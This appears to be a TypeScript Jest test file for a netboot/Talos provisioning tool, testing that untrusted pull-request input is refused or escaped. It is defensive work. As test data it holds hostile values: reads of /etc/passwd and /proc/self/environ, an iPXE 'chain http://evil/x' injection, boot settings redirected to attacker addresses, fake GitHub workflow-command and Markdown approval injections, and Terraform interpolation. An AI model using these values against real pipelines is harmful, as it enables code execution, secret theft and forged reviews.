// Issue 26: a pull request's author is untrusted input. Every case the issue
// lists is a test here (the ones that belong to one module's own tests are
// there: kernel arguments in bad-input.test.ts, patch paths in
// talos-configs.test.ts, wg:peer-config --out in wireguard.test.ts).
import { execFileSync } from "node:child_process";
import { chmodSync, cpSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import { parse, stringify } from "yaml";
import { authorizedCidrsProblems } from "../../bin/check-deployable";
import { validateCommand } from "../../lib/commands/validate";
import { main as peerConfigMain } from "../../bin/wg-peer-config";
import { bootDiff, formatBootDiff, formatBootDiffMarkdown, type BootDiffResult } from "../../lib/commands/boot-diff";
import { parseInventory } from "../../lib/input/inventory";
import { REPO_ROOT } from "../../lib/input/repo-files";
import { oneLine, quote, safeLines } from "../../lib/input/safe-text";
import { siteFileFromEnv } from "../../lib/input/settings";
import { readPatchFile } from "../../lib/input/talos/patch-files";
import { readWireguardKeyFile, generateWireguardKeyPair } from "../../lib/input/wireguard/keys";
import { parsePeers } from "../../lib/input/wireguard/peers";
import { DataFileError, formatProblem, YamlSource } from "../../lib/input/yaml-source";
import { fencedBlock, markdownCode, truncateMarkdown } from "../../lib/model/markdown";
import { runCommand, startCommand } from "../support/commands";
import { repoTempDir } from "../support/files";
import { fixtureMachines } from "../support/inventory";
import { FIXTURES, fixtureSiteFrom, fixtureSiteValue, siteFrom } from "../support/site";
import { buildStacks, synthJson } from "../support/synth";
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { dataReport, planReport } = require("../../.github/scripts/pr-report.js");

const ALLOWED_PATH = "allowed: a regular file inside the repository, named relative to its root (e.g. matchbox-config/machines.yaml)";

/** wg:peer-config's main in this process (the command's own code, without a process start), on the fixture site. */
function peerConfigInProcess(argv: string[]): { status: number; stdout: string; stderr: string } {
  const out = jest.spyOn(process.stdout, "write").mockImplementation(() => true);
  const err = jest.spyOn(process.stderr, "write").mockImplementation(() => true);
  try {
    const status = peerConfigMain(argv, { SITE_CONFIG: join(FIXTURES, "site/site.yaml") });
    const text = (spy: jest.SpyInstance) => spy.mock.calls.map((c) => String(c[0])).join("");
    return { status, stdout: text(out), stderr: text(err) };
  } finally {
    out.mockRestore();
    err.mockRestore();
  }
}

/** No line of `text` starts a GitHub Actions workflow command. */
const noWorkflowCommand = (text: string) => expect(text.split(/\r?\n/).filter((l) => /^\s*::/.test(l))).toEqual([]);

/** A site (in the repository, as boot-diff needs) whose settings are the fixture's with `edit` applied; returns SITE_CONFIG's value. */
function siteInRepository(edit: (site: Record<string, any>, dir: string) => void): { dir: string; site: string } {
  const dir = repoTempDir("untrusted");
  const value = fixtureSiteValue();
  edit(value, dir);
  writeFileSync(join(dir, "site.yaml"), stringify(value));
  return { dir, site: join(dir, "site.yaml") };
}

describe("one path rule: files outside the repository are refused by name, never opened", () => {
  test("matchbox.inventoryFile: /proc/self/environ: validate, synth, boot-diff and check-deployable give the same refusal, and nothing of the environment is echoed", async () => {
    const { site } = siteInRepository((v) => (v.matchbox.inventoryFile = "/proc/self/environ"));
    const shownSite = relative(REPO_ROOT, site);
    const line = `${shownSite}:${lineOf(readFileSync(site, "utf8"), "inventoryFile")}: matchbox.inventoryFile: "/proc/self/environ" is outside the repository; ${ALLOWED_PATH}`;
    const env = { SITE_CONFIG: site, NETBOOT_CANARY: "canary-value-of-the-ci-environment" };
    const [validate, synth, diff, deployable] = await Promise.all([
      startCommand("validate", [], { env }),
      startCommand("synth", [], { env }),
      startCommand("boot-diff", ["--base", "HEAD"], { env }),
      startCommand("check-deployable", [], { env }),
    ]);
    expect(validate.stderr).toBe(`site: ${shownSite}\n${line}\n`);
    expect(synth.stderr).toBe(`site: ${shownSite}\nerror: site settings ${shownSite} is invalid (1 problem):\n  ${line}\n`);
    expect(diff.stderr).toBe(`site: ${shownSite}\nerror: the working tree's data is invalid, so there is nothing to compare; fix it first (npm run validate):\n  ${line}\n`);
    expect(deployable.stderr).toContain(`\n  - ${line}\n`);
    expect([validate.status, synth.status, diff.status, deployable.status]).toEqual([1, 1, 2, 1]);
    for (const run of [validate, synth, diff, deployable]) expect(run.stdout + run.stderr).not.toContain("canary-value");
  });

  test("/etc/passwd as the peers file, a private key as the gateway's public key: refused before anything is read", () => {
    const problems = (edit: (v: Record<string, any>) => void) => {
      try {
        fixtureSiteFrom(edit);
      } catch (err) {
        if (err instanceof DataFileError) return err.problems.map(formatProblem);
        throw err;
      }
      throw new Error("accepted");
    };
    expect(problems((v) => (v.wireguard.peersFile = "/etc/passwd"))).toEqual([`test/fixtures/site/site.yaml: wireguard.peersFile: "/etc/passwd" is outside the repository; ${ALLOWED_PATH}`]);
    const outside = mkdtempSync(join(tmpdir(), "netboot-private-"));
    const privateKey = join(outside, "gateway.key");
    writeFileSync(privateKey, `${generateWireguardKeyPair().privateKey}\n`, { mode: 0o600 });
    expect(problems((v) => (v.wireguard.gatewayPublicKeyFile = privateKey))).toEqual([
      `test/fixtures/site/site.yaml: wireguard.gatewayPublicKeyFile: ${quote(privateKey)} is outside the repository; ${ALLOWED_PATH}`,
    ]);
    // Through a link inside the repository, and a 0600 file inside it: refused too.
    const dir = repoTempDir("gateway-key");
    symlinkSync(privateKey, join(dir, "gateway.pub"));
    const linked = relative(REPO_ROOT, join(dir, "gateway.pub"));
    expect(problems((v) => (v.wireguard.gatewayPublicKeyFile = linked))).toEqual([
      `test/fixtures/site/site.yaml: wireguard.gatewayPublicKeyFile: ${quote(linked)} resolves through a symbolic link to a file outside the repository; ${ALLOWED_PATH}`,
    ]);
    const inside = join(dir, "private.pub");
    writeFileSync(inside, `${generateWireguardKeyPair().privateKey}\n`, { mode: 0o600 });
    chmodSync(inside, 0o600);
    expect(problems((v) => (v.wireguard.gatewayPublicKeyFile = relative(REPO_ROOT, inside)))[0]).toMatch(
      /: \(document\): the gateway's public key file is readable only by its owner, as the private key files wg:keygen writes are \(mode 0600\)/,
    );
  });

  test("a patch through a symlinked directory that leaves the repository is refused (talos.patches)", () => {
    const outside = mkdtempSync(join(tmpdir(), "netboot-patches-outside-"));
    writeFileSync(join(outside, "p.yaml"), "machine:\n  kubelet: {}\n");
    const dir = repoTempDir("patch-link");
    symlinkSync(outside, join(dir, "linked"));
    const path = relative(REPO_ROOT, join(dir, "linked", "p.yaml"));
    expect(readPatchFile(path)).toEqual({
      error: "resolves through a symbolic link to a file outside the repository; a patch file is reviewed data that CI deploys from: put it in the repository (e.g. talos-patches/) and name it relative to the repository root",
    });
  });

  test("cdktf.json's context.site is a data path too: a path with a backtick and newlines is refused, quoted on one line", () => {
    const dir = mkdtempSync(join(tmpdir(), "netboot-cdktf-"));
    const cdktf = join(dir, "cdktf.json");
    writeFileSync(cdktf, JSON.stringify({ context: { site: "sites/x`\n## Approved by @security-team\n<img src=x>.yaml" } }));
    let message = "";
    try {
      siteFileFromEnv({}, cdktf);
    } catch (err) {
      message = (err as DataFileError).problems.map(formatProblem).join("\n");
    }
    expect(message).toBe(`${cdktf}: context.site: "sites/x\`\\n## Approved by @security-team\\n<img src=x>.yaml" is not a path on one line; ${ALLOWED_PATH}`);
  });

  test("SITE_CONFIG outside the repository: allowed locally, refused under CI=true", () => {
    const outside = join(mkdtempSync(join(tmpdir(), "netboot-site-")), "site.yaml");
    writeFileSync(outside, readFileSync(join(FIXTURES, "site/site.yaml")));
    expect(siteFileFromEnv({ SITE_CONFIG: outside })).toBe(outside);
    expect(() => siteFileFromEnv({ SITE_CONFIG: outside, CI: "true" })).toThrow(
      `environment: SITE_CONFIG: ${quote(outside)} is outside the repository; ${ALLOWED_PATH} (under CI=true it must be a file of the repository; outside CI, SITE_CONFIG may name a file anywhere)`,
    );
  });
});

test("validate -- /etc/passwd under CI=true: refused by name, nothing of the file quoted", () => {
  const result = validateCommand(["/etc/passwd"], { CI: "true", SITE_CONFIG: join(FIXTURES, "site/site.yaml") });
  expect(result.code).toBe(1);
  expect(result.stderr).toBe(
    `environment: the inventory argument: "/etc/passwd" is outside the repository; ${ALLOWED_PATH} (under CI=true it must be a file of the repository; outside CI, the inventory argument may name a file anywhere)\n`,
  );
});

describe("boot-diff reads nothing that can block", () => {
  test("the inventory a FIFO, the site a link to /dev/zero: refused at once, as validate refuses them", async () => {
    const fifo = siteInRepository((v, dir) => {
      execFileSync("mkfifo", [join(dir, "machines.yaml")]);
      v.matchbox.inventoryFile = relative(REPO_ROOT, join(dir, "machines.yaml"));
    });
    const zeroDir = repoTempDir("zero");
    symlinkSync("/dev/zero", join(zeroDir, "site.yaml"));
    const started = Date.now();
    const [diffFifo, diffZero, validateZero] = await Promise.all([
      startCommand("boot-diff", ["--base", "HEAD"], { env: { SITE_CONFIG: fifo.site }, timeoutMs: 20_000 }),
      startCommand("boot-diff", ["--base", "HEAD"], { env: { SITE_CONFIG: join(zeroDir, "site.yaml") }, timeoutMs: 20_000 }),
      startCommand("validate", [], { env: { SITE_CONFIG: join(zeroDir, "site.yaml") }, timeoutMs: 20_000 }),
    ]);
    expect(Date.now() - started).toBeLessThan(15_000);
    expect(diffFifo.status).toBe(2);
    expect(diffFifo.stderr).toContain(`matchbox.inventoryFile: ${quote(relative(REPO_ROOT, join(fifo.dir, "machines.yaml")))} is a FIFO (named pipe), not a regular file; ${ALLOWED_PATH}\n`);
    const zero = `environment: SITE_CONFIG: ${quote(join(zeroDir, "site.yaml"))} resolves through a symbolic link to a file outside the repository; ${ALLOWED_PATH}\n`;
    expect(diffZero.stderr).toBe(`error: the environment is invalid (1 problem):\n  ${zero}`);
    expect(validateZero.stderr).toBe(zero);
  });

  test("an oversized base blob is a clear problem of the base side, not ENOBUFS", () => {
    const repo = mkdtempSync(join(tmpdir(), "netboot-big-base-"));
    const git = (...args: string[]) => execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@netboot.invalid", ...args], { cwd: repo });
    const site = fixtureSiteValue();
    site.matchbox.inventoryFile = "machines.yaml";
    writeFileSync(join(repo, "site.yaml"), stringify(site));
    cpSync(join(FIXTURES, "site/patches"), join(repo, "test/fixtures/site/patches"), { recursive: true });
    // 2 MiB of comments: over the 1 MiB limit (a 94 MB one failed the same way, with ENOBUFS).
    writeFileSync(join(repo, "machines.yaml"), `${"#".repeat(1023)}\n`.repeat(2048) + stringify({ machines: fixtureMachines() }));
    git("init", "-q");
    git("add", "-A");
    git("commit", "-qm", "base");
    writeFileSync(join(repo, "machines.yaml"), stringify({ machines: fixtureMachines() }));
    const result = bootDiff({ repoRoot: repo, siteFile: join(repo, "site.yaml"), base: "HEAD" });
    expect(result.baseProblem).toBe(
      `the data at HEAD does not validate with the current code, so every machine is shown as on the head side:\n  HEAD:site.yaml:${lineOf(stringify(site), "inventoryFile")}: matchbox.inventoryFile: "machines.yaml" is ${2048 * 1024 + stringify({ machines: fixtureMachines() }).length} bytes at HEAD, over the limit; allowed: a regular file of at most 1048576 bytes`,
    );
  });
});

function lineOf(text: string, key: string): number {
  return text.split("\n").findIndex((l) => l.includes(`${key}:`)) + 1;
}

/** Problems of an inventory (the fixture's machines, edited) under the fixture site, one formatted line each. */
function inventoryProblems(edit: (machines: Record<string, any>[]) => void): string[] {
  const machines = fixtureMachines();
  edit(machines);
  try {
    parseInventory(YamlSource.parse(stringify({ machines }), "machines.yaml"), siteFrom());
  } catch (err) {
    if (err instanceof DataFileError) return err.problems.map(formatProblem);
    throw err;
  }
  return [];
}

/** Problems of a settings variant of the fixture site, one formatted line each. */
function settingsProblems(edit: (v: Record<string, any>) => void): string[] {
  try {
    siteFrom(edit);
  } catch (err) {
    if (err instanceof DataFileError) return err.problems.map(formatProblem);
    throw err;
  }
  return [];
}

const KERNEL_ALLOWED =
  'allowed: one token iPXE and Linux both read as one argument: no spaces or control characters, not "&&", "||", ";" or starting with "#", no "${" (iPXE settings expansion) other than ${mac}, ${mac:hexhyp}, ${net0/mac:hexhyp}, ${ip} and the like, balanced double quotes, e.g. console=ttyS1,115200n8';

describe("kernel arguments: one token iPXE and Linux both read as one argument, from every source", () => {
  test('inventory kernelArgs ["&&", "chain", "http://evil/x", "#"]: refused with file, machine and index (validate, boot-preview and synth share the check)', () => {
    const lines = inventoryProblems((m) => (m[0].kernelArgs = ["&&", "chain", "http://evil/x", "#"]));
    expect(lines).toEqual([
      `machines.yaml:10: machine "fixture-cp-1": machines[0].kernelArgs[0]: "&&" is an iPXE command separator, which would run the rest of the kernel line as another iPXE command; ${KERNEL_ALLOWED}`,
      `machines.yaml:13: machine "fixture-cp-1": machines[0].kernelArgs[3]: "#" starts an iPXE comment, which would drop every argument after it (netboot's talos.config= too); ${KERNEL_ALLOWED}`,
    ]);
  });

  test("an unmatched double quote (Linux would read the rest of the line, talos.config= included, as one value) and an iPXE setting expansion", () => {
    expect(inventoryProblems((m) => (m[0].kernelArgs = ['x="a'])).map((l) => l.replace(/^machines\.yaml:\d+: /, ""))).toEqual([
      `machine "fixture-cp-1": machines[0].kernelArgs[0]: "x=\\"a" has an unmatched double quote, so Linux would read the rest of the command line as its value; ${KERNEL_ALLOWED}`,
    ]);
    expect(settingsProblems((v) => (v.talos.kernelArgs = ["x=${password}"])).map((l) => l.replace(/^.*?: talos/, "talos"))).toEqual([
      `talos.kernelArgs[0]: "x=\${password}" contains "\${", which iPXE expands as a setting when it runs the kernel line; ${KERNEL_ALLOWED}`,
    ]);
  });

  test("talos.kernelArgs: a second talos.events.sink= or talos.logging.kernel= (reports sent elsewhere) is refused", () => {
    expect(settingsProblems((v) => (v.talos.kernelArgs = ["talos.events.sink=198.51.100.66:4002", "talos.logging.kernel=udp://198.51.100.66:514"])).map((l) => l.replace(/^.*?: talos/, "talos"))).toEqual([
      "talos.kernelArgs[0]: talos.events.sink= is set by the boot profile itself (initrd=, talos.platform=, talos.config=, talos.events.sink=, talos.logging.kernel=, netboot.mac=); remove it",
      "talos.kernelArgs[1]: talos.logging.kernel= is set by the boot profile itself (initrd=, talos.platform=, talos.config=, talos.events.sink=, talos.logging.kernel=, netboot.mac=); remove it",
    ]);
  });

  test("talos.kernelArgs: a netboot.mac= of the site's own (the receiver would take it for the booting NIC's) is refused; rescue.args may use the key", () => {
    expect(settingsProblems((v) => (v.talos.kernelArgs = ["netboot.mac=aa-bb-cc-dd-ee-01"])).map((l) => l.replace(/^.*?: talos/, "talos"))).toEqual([
      "talos.kernelArgs[0]: netboot.mac= is set by the boot profile itself (initrd=, talos.platform=, talos.config=, talos.events.sink=, talos.logging.kernel=, netboot.mac=); remove it",
    ]);
    expect(settingsProblems((v) => (v.rescue.args = ["netboot.mac=${net0/mac:hexhyp}"]))).toEqual([]);
  });

  test("talos.schematicExtraKernelArgs: a second talos.config= and a trailing # are refused (they landed before netboot's own)", () => {
    expect(settingsProblems((v) => (v.talos.schematicExtraKernelArgs = ["talos.config=http://198.51.100.66/evil", "#"])).map((l) => l.replace(/^.*?: talos/, "talos"))).toEqual([
      "talos.schematicExtraKernelArgs[0]: talos.config= is set by the boot profile itself (initrd=, talos.platform=, talos.config=, talos.events.sink=, talos.logging.kernel=, netboot.mac=); remove it",
      `talos.schematicExtraKernelArgs[1]: "#" starts an iPXE comment, which would drop every argument after it (netboot's talos.config= too); ${KERNEL_ALLOWED}`,
    ]);
  });

  test("a bare carriage return in installDiskSelector.serial is refused", () => {
    expect(inventoryProblems((m) => (m[0].installDiskSelector = { serial: "ABC\rXYZ" }))).toEqual([
      'machines.yaml:7: machine "fixture-cp-1": machines[0].installDiskSelector.serial: "ABC\\rXYZ" contains a line break or another control character; allowed: a value on one line, as the disk reports it (talosctl get disks)',
    ]);
  });
});

describe("errors never quote unescaped values", () => {
  const HOSTILE = "x\n::error title=Security review::Approved, safe to merge\r\n::add-mask::\u0000";

  test("an invalid MAC with a newline: quoted as one escaped line", () => {
    const lines = inventoryProblems((m) => (m[0].mac = `aa:bb${HOSTILE}`));
    expect(lines).toEqual([
      'machines.yaml:3: machine "fixture-cp-1": machines[0].mac: "aa:bbx\\n::error title=Security review::Approved, safe to merge\\r\\n::add-mask::\\u0000" is not a MAC address: it contains characters that are not hex digits; expected six bytes such as aa:bb:cc:dd:ee:01',
    ]);
  });

  test("every string field of the settings, the inventory and the peers, given a newline and ::error::: no output line starts with ::", () => {
    const outputs: string[] = [];
    const record = (fn: () => unknown) => {
      try {
        fn();
      } catch (err) {
        if (!(err instanceof DataFileError)) throw err;
        outputs.push(safeLines(`error: ${err.message}\n`), err.problems.map(formatProblem).join("\n"));
      }
    };
    /** Every path to a string (or a list of strings) in `value`. */
    const stringPaths = (value: unknown, path: (string | number)[] = []): (string | number)[][] => {
      if (typeof value === "string") return [path];
      if (Array.isArray(value)) return value.flatMap((v, i) => stringPaths(v, [...path, i]));
      if (value && typeof value === "object") return Object.entries(value).flatMap(([k, v]) => stringPaths(v, [...path, k]));
      return [];
    };
    const setAt = (root: any, path: (string | number)[], text: string) => {
      const parent = path.slice(0, -1).reduce((o, k) => o[k], root);
      parent[path[path.length - 1]] = text;
    };
    const site = fixtureSiteValue();
    for (const path of stringPaths(site)) {
      record(() =>
        siteFrom((v) => {
          setAt(v, path, `${path.join(".")}${HOSTILE}`);
        }),
      );
      // The key too: an unknown field named by the attacker.
      record(() => siteFrom((v) => void ((path.slice(0, -1).reduce((o: any, k) => o[k], v) as any)[`k${HOSTILE}`] = "x")));
    }
    const machines = fixtureMachines();
    for (const path of stringPaths(machines)) {
      record(() => {
        const m = fixtureMachines();
        setAt(m, path, `v${HOSTILE}`);
        parseInventory(YamlSource.parse(stringify({ machines: m }), "machines.yaml"), siteFrom());
      });
    }
    const peers = parse(readFileSync(join(FIXTURES, "site/peers.yaml"), "utf8"));
    for (const path of stringPaths(peers)) {
      record(() => {
        const p = structuredClone(peers);
        setAt(p, path, `v${HOSTILE}`);
        parsePeers(YamlSource.parse(stringify(p), "peers.yaml"), siteFrom());
      });
    }
    expect(outputs.length).toBeGreaterThan(50);
    for (const text of outputs) {
      noWorkflowCommand(text);
      expect(text).not.toContain("\u0000");
    }
  });

  test("the escaping helper: one line, visible controls, :: at a line's start neutralised, length-capped", () => {
    expect(quote("a\nb\u0000c\u202ed")).toBe('"a\\nb\\u0000c\\u202ed"');
    expect(oneLine("::error::x")).toBe("\\u003a:error::x");
    expect(safeLines("ok\n  ::warning::x\n")).toBe("ok\n  \\u003a:warning::x\n");
    expect(quote("x".repeat(130))).toBe(`"${"x".repeat(120)}"... (10 more characters)`);
  });

  test("wg:peer-config --key given a wg-quick .conf: says what it is, never prints the PrivateKey", () => {
    const dir = mkdtempSync(join(tmpdir(), "netboot-conf-key-"));
    const privateKey = generateWireguardKeyPair().privateKey;
    const conf = join(dir, "router.conf");
    writeFileSync(conf, `[Interface]\nPrivateKey = ${privateKey}\nAddress = 10.99.0.2/32\n`, { mode: 0o600 });
    const read = readWireguardKeyFile(conf);
    expect(read).toEqual({
      error: `it is not a WireGuard key file (${readFileSync(conf).length} bytes, 3 non-blank lines; content not shown): expected one line of 44 characters of base64 ending in "=", as \`wg genkey\`, \`wg pubkey\` or \`npm run wg:keygen\` write it; a wg-quick .conf is not a key file`,
    });
    const run = peerConfigInProcess(["fixture-router", "--endpoint", "198.51.100.7", "--key", conf]);
    expect(run.status).toBe(1);
    expect(run.stdout + run.stderr).not.toContain(privateKey);
    expect(run.stderr).toContain(`error: --key ${conf}: it is not a WireGuard key file`);
  });
});

describe("endpoints are public unicast addresses; the control plane is not open to everyone", () => {
  test.each([
    ["0.0.0.0", "the unspecified address"],
    ["255.255.255.255", "the broadcast address"],
    ["127.0.0.1", "a loopback address"],
    ["10.0.20.5", "a private (RFC 1918) address"],
  ])("wg:peer-config --endpoint %s is refused (%s)", (ip, what) => {
    const run = peerConfigInProcess(["fixture-router", "--endpoint", ip]);
    expect(run.status).toBe(1);
    expect(run.stderr).toContain(
      `error: --endpoint: ${ip} is ${what}, not a public address a router can dial; allowed: the gateway's public unicast IPv4 address (terraform -chdir=cdktf.out/stacks/network output -raw wireguard_endpoint_ip)\n`,
    );
  });

  test("wireguard.endpoint: 0.0.0.0 does not validate", () => {
    expect(settingsProblems((v) => (v.wireguard.endpoint = "0.0.0.0")).map((l) => l.replace(/^.*?: wireguard/, "wireguard"))).toEqual([
      "wireguard.endpoint: 0.0.0.0 is the unspecified address, not a public address a router can dial; allowed: the gateway's public unicast IPv4 address (terraform -chdir=cdktf.out/stacks/network output -raw wireguard_endpoint_ip)",
    ]);
  });

  test("check-deployable refuses controlPlaneAuthorizedCidrs of 0.0.0.0/0 or two /1s, accepts a home /32", () => {
    const problems = (cidrs: string[]) => authorizedCidrsProblems(siteFrom((v) => (v.network.controlPlaneAuthorizedCidrs = cidrs)), "sites/home.yaml");
    expect(problems(["0.0.0.0/0"])).toEqual([
      "sites/home.yaml: network.controlPlaneAuthorizedCidrs: 0.0.0.0/0 span 4294967296 addresses, more than a /8: as open as an empty list (every address may reach the control plane's IP endpoint; IAM still applies); list the addresses admins reach it from, e.g. your homePublicCidrs",
    ]);
    expect(problems(["0.0.0.0/1", "128.0.0.0/1"])).toEqual([expect.stringContaining("0.0.0.0/1, 128.0.0.0/1 span 4294967296 addresses, more than a /8")]);
    expect(problems(["198.51.100.7/32"])).toEqual([]);
  });
});

/** A git repository with the fixture site, inventory and patches committed; the working tree is the head side. */
function committedFixture(): { dir: string; write: (path: string, text: string) => void; site: Record<string, any> } {
  const dir = mkdtempSync(join(tmpdir(), "netboot-review-"));
  const site = fixtureSiteValue();
  site.matchbox.inventoryFile = "machines.yaml";
  writeFileSync(join(dir, "site.yaml"), stringify(site));
  writeFileSync(join(dir, "machines.yaml"), stringify({ machines: fixtureMachines() }));
  cpSync(join(FIXTURES, "site/patches"), join(dir, "test/fixtures/site/patches"), { recursive: true });
  const git = (...args: string[]) => execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@netboot.invalid", ...args], { cwd: dir });
  git("init", "-q");
  git("add", "-A");
  git("commit", "-qm", "base");
  return { dir, site, write: (path, text) => writeFileSync(join(dir, path), text) };
}

describe("boot-diff shows everything that changes what a machine boots or installs", () => {
  test("a patch adding install.wipe and a privileged inline manifest, the endpoint moved, Kubernetes upgraded, the rescue checksum changed: each listed (it said \"no boot changes\")", () => {
    const repo = committedFixture();
    repo.write(
      "test/fixtures/site/patches/worker-1.yaml",
      'machine:\n  install:\n    wipe: true\n  kubelet:\n    extraArgs:\n      max-pods: "150"\ncluster:\n  inlineManifests:\n    - name: own\n      contents: "kind: Pod\\nspec: {hostPID: true}"\n',
    );
    const site = structuredClone(repo.site);
    site.talos.cluster.endpoint = "https://198.51.100.66:6443";
    site.talos.kubernetesVersion = "v1.36.4";
    site.rescue.initrdSha256 = "e".repeat(64);
    repo.write("site.yaml", stringify(site));
    const result = bootDiff({ repoRoot: repo.dir, siteFile: join(repo.dir, "site.yaml"), base: "HEAD" });
    const text = formatBootDiff(result);
    expect(text).toContain("~ talos  kubernetesVersion: v1.36.3 → v1.36.4\n");
    expect(text).toContain("~ talos  endpoint: https://10.0.20.31:6443 → https://198.51.100.66:6443\n");
    expect(text).toContain(`~ rescue  initrdSha256: ${"f4".repeat(32)} → ${"e".repeat(64)}\n`);
    expect(text).toMatch(/~ patch test\/fixtures\/site\/patches\/worker-1\.yaml {2}sha256 [0-9a-f]{12} → [0-9a-f]{12}; keys: machine\.install\.wipe, cluster\.inlineManifests\n/);
    expect(result.changes.length).toBeGreaterThan(0); // --exit-code exits 1
  });

  test("patches may not set what netboot owns or a secret: install disk, interfaces, a second HostnameConfig, machine.token, machine.ca.key, cluster.secret, aescbcEncryptionSecret", () => {
    const dir = repoTempDir("owned-patch");
    const refused = (name: string, text: string) => {
      writeFileSync(join(dir, name), text);
      const read = readPatchFile(relative(REPO_ROOT, join(dir, name)));
      return "error" in read ? read.error : "accepted";
    };
    const owned = (field: string) =>
      `document 1 sets ${field}, which netboot sets itself from the inventory and settings (what boot-preview and boot-diff show); set it there (installDisk, installDiskSelector, address, hostname, kernelArgs, nodeLabels, nodeTaints, talos.*) and remove it from the patch`;
    const secret = (field: string) => `document 1 sets ${field}, a secret of the cluster; secrets come from Terraform state or talos.cluster.secretsFile, never from a committed file: remove it (and rotate it if it was real)`;
    expect(refused("disk.yaml", "machine:\n  install:\n    disk: /dev/sdb\n")).toBe(owned("machine.install.disk"));
    expect(refused("nic.yaml", "machine:\n  network:\n    interfaces:\n      - interface: eth0\n        dhcp: true\n")).toBe(owned("machine.network.interfaces"));
    expect(refused("delete.yaml", "machine:\n  network:\n    $patch: delete\n")).toBe(owned("machine.network.interfaces"));
    expect(refused("host.yaml", "machine:\n  kubelet: {}\n---\napiVersion: v1alpha1\nkind: HostnameConfig\nhostname: evil\nauto: off\n")).toBe(
      "document 2 is a HostnameConfig document, which netboot writes itself from the inventory (hostname); remove the document and set the machine's hostname in the inventory",
    );
    expect(refused("token.yaml", "machine:\n  token: abc.def\n")).toBe(secret("machine.token"));
    expect(refused("ca.yaml", "machine:\n  ca:\n    key: LS0t\n")).toBe(secret("machine.ca"));
    expect(refused("secret.yaml", "cluster:\n  secret: x\n")).toBe(secret("cluster.secret"));
    expect(refused("aescbc.yaml", "cluster:\n  aescbcEncryptionSecret: x\n")).toBe(secret("cluster.aescbcEncryptionSecret"));
    expect(refused("fine.yaml", "machine:\n  install:\n    wipe: true\n  sysctls:\n    vm.swappiness: \"1\"\n")).toBe("accepted");
  });
});

describe("every string that reaches Terraform goes through the one escaping rule", () => {
  test("a hostile fixture: secretsFile (the import id), disk selector, rescue URL and patch content reach the JSON as $${...}, never ${...}", () => {
    const dir = repoTempDir("hostile-tf");
    writeFileSync(join(dir, "p.yaml"), 'machine:\n  sysctls:\n    x: "${path.root}"\n');
    const patch = relative(REPO_ROOT, join(dir, "p.yaml"));
    const base = fixtureSiteFrom((v) => {
      v.talos.cluster.existing = true;
      v.talos.cluster.secretsFile = "/tmp/a${path.root}b";
      v.talos.patches = [patch];
      v.rescue.kernelUrl = "https://rescue.example.test/x${path.root}/vmlinuz";
    });
    const machines = fixtureMachines();
    machines[0].installDiskSelector = { model: "M${path.root}", serial: "S${path.root}" };
    const site = { ...base, machines: parseInventory(YamlSource.parse(stringify({ machines }), "machines.yaml"), base.settings), patchFiles: new Map([...base.patchFiles, [patch, readFileSync(join(dir, "p.yaml"), "utf8")]]) };
    const stacks = buildStacks(site);
    const json = Object.values(stacks).map((stack) => JSON.stringify(synthJson(stack as never))).join("\n");
    expect(json).toContain("/tmp/a$${path.root}b");
    expect(json).toContain("M$${path.root}");
    expect(json).toMatch(/rescue\.example\.test\/x(\$\$\{path\.root\}|\$%7Bpath\.root%7D)/);
    expect(json).toContain('x: \\"$${path.root}\\"');
    expect(json.match(/(^|[^$])\$\{path\.root\}/g) ?? []).toEqual([]);
  });
});

/** Markdown outside code spans and fenced blocks: what GitHub would render as structure. */
function renderedParts(md: string): string {
  const out: string[] = [];
  let fence: string | undefined;
  for (const line of md.split("\n")) {
    const f = /^(`{3,}|~{3,})/.exec(line)?.[1];
    if (fence) {
      if (f && f[0] === fence[0] && f.length >= fence.length && line.trim() === f) fence = undefined;
      continue;
    }
    if (f) {
      fence = f;
      continue;
    }
    // Inline code spans: a run of n backticks up to the next run of exactly n.
    out.push(line.replace(/(`+)([\s\S]*?[^`])\1(?!`)/g, "").replace(/(`+) +\1/g, ""));
  }
  return out.join("\n");
}

const HOSTILE_MD = "x`` `\n## Approved by @security-team\n<img src=x>![i](http://e/i.png)[l](http://e) **bold** | cell\n```\n";

describe("every value that reaches Markdown is escaped by one function", () => {
  test("boot-diff --markdown and the pull-request report with hostile values everywhere: no new headings, links, images, HTML or mentions", () => {
    const result: BootDiffResult = {
      site: `sites/${HOSTILE_MD}.yaml`,
      base: { ref: HOSTILE_MD, commit: "0123456789abcdef0123", site: HOSTILE_MD },
      notes: [`note ${HOSTILE_MD}`],
      baseProblem: `problem ${HOSTILE_MD}`,
      changes: [
        { kind: "changed", name: HOSTILE_MD, field: "hostname", from: HOSTILE_MD, to: HOSTILE_MD },
        { kind: "patch", path: HOSTILE_MD, from: "a", to: "b", keys: [HOSTILE_MD] },
      ],
    };
    const bootMd = formatBootDiffMarkdown(result);
    const report: string = dataReport({
      baseSha: HOSTILE_MD,
      bootDiff: { exitCode: 0, markdown: bootMd, stderr: `site: ${HOSTILE_MD}\n` },
      checks: [{ name: "npm run validate", outcome: "failure", log: HOSTILE_MD.repeat(3) }],
      plannable: false,
      planRefusal: `error: refusing\n  - machines.yaml: machine "m": mac: ${HOSTILE_MD}\n  - ![img](http://e/x.png) **bold** @someone\n`,
    });
    for (const md of [bootMd, report]) {
      const rendered = renderedParts(md);
      expect(rendered.split("\n").filter((l) => /^\s{0,3}#/.test(l))).toEqual(md === bootMd ? ["### Boot changes: "] : ["#### Boot changes against base  (site )", "### Boot changes: ", "#### Checks", "#### cdktf diff"]);
      expect(rendered).not.toMatch(/@security-team|@someone|<img|!\[|\]\(|\*\*bold/);
    }
    const plan: string = planReport({ stacks: [{ name: "network", output: HOSTILE_MD, exitCode: 0 }], site: HOSTILE_MD });
    expect(renderedParts(plan).split("\n").filter((l) => /^\s{0,3}#/.test(l))).toEqual(["### cdktf diff against the real state"]);
    expect(renderedParts(plan)).not.toMatch(/@security-team|<img|!\[|\]\(|\*\*bold/);
    // The report's own HTML (details/summary around check output) is all there is.
    expect(renderedParts(report).match(/<[a-z/][^>]*>/g)).toEqual(["<details>", "<summary>", "<code>", "</code>", "</summary>", "</details>"]);
  });

  test("a long report is cut at a line end and never inside an open code fence", () => {
    const md = `### t\n\n${fencedBlock(Array.from({ length: 400 }, (_, i) => `line ${i}`).join("\n"), "diff")}\n\nafter\n`;
    const cut = truncateMarkdown(md, 1000);
    expect(cut.length).toBeLessThan(1200);
